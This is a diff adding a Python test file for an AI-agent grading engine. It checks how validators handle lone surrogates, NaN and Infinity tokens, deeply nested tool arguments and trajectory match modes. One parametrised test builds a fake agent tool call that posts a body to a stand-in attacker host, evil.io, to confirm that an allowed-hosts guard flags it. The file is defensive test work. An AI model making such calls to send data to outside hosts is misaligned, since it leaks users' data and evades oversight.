@@ -1,0 +1,265 @@
+"""Agent text a JSON reply can carry but few checks expect: lone UTF-16 surrogates, NaN and
+Infinity tokens (grading.md §1.4 rule 7, §2, §3.2, §5.3). A check reads such text to a verdict;
+it never crashes into ERROR on it, and never passes it as JSON."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+import re2
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from validator_helpers import run, status
+
+from grading.engine import evidence_from_response, grade_case
+from grading.engine.types import CaseDef, GradeContext
+from grading.engine.validators.common import compile_re2, search_span
+
+CTX = GradeContext(case_findings=[])
+
+
+def _grade(response: dict, spec: dict):
+    return grade_case(evidence_from_response(response), CaseDef("ch", "c"), spec, context=CTX)
+
+
+def test_search_span_reads_a_lone_surrogate_as_one_replacement_character():
+    # json reads "\ud800" into a str UTF-8 cannot encode; RE2 needs UTF-8. Offsets still count
+    # the text's code points.
+    text = "ok \ud800 done"
+    assert search_span(compile_re2("done"), text) == (text.index("done"), len(text))
+    assert search_span(compile_re2("ok . done"), text) == (0, len(text))
+    assert search_span(compile_re2("nothing"), text) is None
+    assert re2.compile("done").search(text.replace("\ud800", "\ufffd")).span() == (5, 9)
+
+
+def test_regex_match_on_output_with_a_lone_surrogate_is_a_verdict():
+    r = run("regex_match", "answer \udc00: 42", r"\d+$")
+    assert status(r) == "PASSED" and "match at 10-12" in r.evidence
+    assert status(run("regex_match", "answer \udc00", r"\d+")) == "FAILED"
+
+
+def test_a_rule_on_output_with_a_lone_surrogate_is_a_verdict():
+    rules = {
+        "job": [{"label": "L", "validator": "pattern_match", "where": "job_resolution", "pattern": "done"}]
+    }
+    g = _grade({"final_output": "ok \ud800 done"}, {"validators": [], "rules": rules})
+    rule = next(e for e in g.expectations if e.key == "rules.job[0]")
+    assert rule.status.value == "PASSED", rule.evidence
+
+
+def test_nan_and_infinity_are_not_json_for_json_schema():
+    # json (which reads agent replies) accepts these tokens; JSON does not (RFC 8259).
+    for text, offset in (("NaN", 0), ("-Infinity", 0), ('{"n": Infinity}', 6), ('[1, "NaN", NaN]', 11)):
+        r = run("json_schema", text, '{"type": ["number", "object", "array"]}')
+        assert status(r) == "FAILED", (text, r.evidence)
+        assert f"not JSON at offset {offset}" in r.evidence
+
+
+def test_nan_in_json_path_actual_is_not_json():
+    r = run("json_path_match", '{"total": NaN}', '{"path": "$.total", "comparator": "less_than", "value": 5}')
+    assert status(r) == "FAILED" and "not JSON at offset 10" in r.evidence
+    r = run(
+        "json_path_match",
+        '{"total": Infinity}',
+        '{"path": "$.total", "comparator": "greater_than", "value": 5}',
+    )
+    assert status(r) == "FAILED" and "not JSON" in r.evidence
+
+
+def test_nan_on_the_expected_side_is_a_pack_error():
+    r = run("json_path_match", '{"a": 1}', '{"path": "$.a", "value": NaN}')
+    assert status(r) == "NOT_EVALUATED" and r.klass().value == "pack_error"
+
+
+def test_nan_in_a_returned_json_file_is_not_json():
+    r = run("file_content_match", "[NaN]", "[null]", {"match_mode": "json_equal"})
+    assert status(r) == "FAILED" and "not JSON at offset 1" in r.evidence
+    r = run("file_json_schema", '{"x": NaN}', None, {"schema": {"type": "object"}})
+    assert status(r) == "FAILED" and "not JSON at offset 6" in r.evidence
+
+
+def test_a_string_holding_nan_is_still_json():
+    assert status(run("json_schema", '{"n": "NaN"}', '{"type": "object"}')) == "PASSED"
+
+
+def _deep(depth: int, leaf: object = "x") -> object:
+    value = leaf
+    for _ in range(depth):
+        value = {"a": value}
+    return value
+
+
+def _guarded(response: dict):
+    rules = {
+        "allowed_hosts": ["docs.python.org"],
+        "job": [{"label": "plan", "validator": "pattern_match", "where": "job_plan", "pattern": "x"}],
+    }
+    spec = {
+        "validators": [
+            {"key": "calls", "type": "contains", "target": "tool_calls", "expected_from": "literal:evil.io"}
+        ],
+        "rules": rules,
+    }
+    return _grade(response, spec)
+
+
+@pytest.mark.parametrize("depth", [300, 600, 950])
+def test_deeply_nested_tool_arguments_do_not_hide_a_guard_violation(depth):
+    # An agent's arguments may parse about 1,000 levels deep; walking them (canonical JSON, the
+    # derived task plan, the guard's URL search) went past the interpreter's recursion limit and
+    # the whole case became ERROR, excluded from pass rates: the violation was never counted.
+    for args in (_deep(depth), json.dumps(_deep(depth))):
+        calls = [
+            {"name": "fetch", "args": {"url": "https://evil.io/x", "body": args}},
+            {"name": "TodoWrite", "args": args},
+        ]
+        g = _guarded({"final_output": "done", "tool_calls": calls})
+        assert g.message is None, g.message
+        assert g.status.value == "FAILED"
+        guard = g.expectations[0]
+        assert guard.key == "rules.allowed_hosts" and guard.status.value == "FAILED"
+        assert "'evil.io'" in guard.evidence
+        assert {e.key: e.status.value for e in g.expectations}["calls"] == "PASSED"
+
+
+@pytest.mark.parametrize("depth", [300, 950])
+def test_a_deeply_nested_final_output_value_is_graded(depth):
+    ev = evidence_from_response({"final_output": _deep(depth)})
+    spec = {
+        "validators": [
+            {"key": "x", "type": "contains", "target": "final_output", "expected_from": "literal:x"}
+        ]
+    }
+    g = grade_case(ev, CaseDef("ch", "c"), spec, context=CTX)
+    assert g.message is None and g.expectations[0].status.value in ("PASSED", "FAILED")
+
+
+def test_nan_in_a_final_output_value_reads_as_null_as_stored():
+    # json reads {"final_output": {"n": NaN}}; the stored evidence holds null (runs.storable), and
+    # a re-grade must give what the live grade gave.
+    ev = evidence_from_response({"final_output": {"n": float("nan"), "m": [float("inf")]}})
+    assert ev.final_output_value == {"n": None, "m": [None]}
+    schema = '{"properties": {"n": {"type": "number"}}}'
+    spec = {
+        "validators": [
+            {
+                "key": "s",
+                "type": "json_schema",
+                "target": "final_output",
+                "expected_from": "literal:" + schema,
+            }
+        ]
+    }
+    g = grade_case(ev, CaseDef("ch", "c"), spec, context=CTX)
+    assert g.expectations[0].status.value == "FAILED"
+
+
+# --- properties ------------------------------------------------------------------------
+
+_scalars = (
+    st.none()
+    | st.booleans()
+    | st.integers(min_value=-(2**70), max_value=2**70)
+    | st.floats(allow_nan=False, allow_infinity=False)
+    | st.text(max_size=6)
+)
+_json = st.recursive(
+    _scalars,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
+    max_leaves=8,
+)
+_args = st.dictionaries(st.sampled_from(["path", "command", "n", "skill", "x"]), _json, max_size=3)
+_calls = st.lists(
+    st.tuples(st.sampled_from(["Bash", "Read", "Skill", "fetch"]), _args, st.sampled_from(["ok", "error"])),
+    max_size=4,
+)
+
+
+def _validators(expected_args: dict) -> list[dict]:
+    return [
+        {
+            "key": "assert",
+            "type": "tool_call_assertion",
+            "target": "tool_calls",
+            "config": {"tool_name": "Bash", "arguments_contain": expected_args},
+        },
+        {
+            "key": "traj",
+            "type": "tool_trajectory",
+            "target": "tool_calls",
+            "config": {"expected": [{"name": "Bash", "args": expected_args}], "match_type": "IN_ORDER"},
+        },
+        {
+            "key": "skills",
+            "type": "skills_trajectory",
+            "target": "tool_calls",
+            "config": {"skills": [{"tool": "Bash", "args": expected_args}, "Read"]},
+        },
+    ]
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(_calls, _args)
+def test_arguments_as_json_text_or_as_an_object_grade_the_same(calls, expected_args):
+    """§1.1: a call's args are an object; a reply may send them as JSON text. Either way the
+    matchers see one value and give one verdict."""
+    spec = {"validators": _validators(expected_args)}
+
+    def verdicts(as_text: bool) -> list[tuple]:
+        raw = [{"name": n, "args": json.dumps(a) if as_text else a, "status": s} for n, a, s in calls]
+        g = _grade({"final_output": "", "tool_calls": raw}, spec)
+        assert g.message is None, g.message
+        return [(e.key, e.status, e.score, e.per_invocation_scores) for e in g.expectations]
+
+    assert verdicts(False) == verdicts(True)
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.text(alphabet=st.characters(blacklist_categories=()), max_size=30),
+    st.sampled_from([".", "a.b", r"\w+", "^$"]),
+)
+def test_search_span_never_raises_on_any_str(text, pattern):
+    span = search_span(compile_re2(pattern), text)
+    replaced = "".join("\ufffd" if 0xD800 <= ord(c) <= 0xDFFF else c for c in text)
+    want = re2.compile(pattern).search(replaced)
+    assert span == (None if want is None else want.span())
+
+
+_names = st.sampled_from(["a", "b", "c"])
+
+
+@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(_names, max_size=5), st.lists(_names, min_size=1, max_size=4), st.lists(_names, max_size=3))
+def test_match_types_are_ordered_any_in_order_exact(observed, required, second_turn):
+    """An order a match passes under EXACT also passes IN_ORDER, and IN_ORDER's credit never
+    exceeds ANY_ORDER's, for both matchers, per invocation (§4.1, §4.2)."""
+    response = {
+        "final_output": "",
+        "invocations": [
+            {"tool_calls": [{"name": n} for n in observed]},
+            {"tool_calls": [{"name": n} for n in second_turn]},
+        ],
+    }
+    for vtype, config in (
+        ("skills_trajectory", {"skills": required}),
+        ("tool_trajectory", {"expected": [[{"name": n} for n in required]] * 2}),
+    ):
+        scores = {}
+        for mode in ("ANY_ORDER", "IN_ORDER", "EXACT"):
+            spec = {
+                "validators": [
+                    {
+                        "key": "m",
+                        "type": vtype,
+                        "target": "tool_calls",
+                        "config": {**config, "match_type": mode},
+                    }
+                ]
+            }
+            scores[mode] = _grade(response, spec).expectations[0].per_invocation_scores
+        for any_s, in_s, exact_s in zip(
+            scores["ANY_ORDER"], scores["IN_ORDER"], scores["EXACT"], strict=True
+        ):
+            assert exact_s <= in_s <= any_s, (vtype, scores)
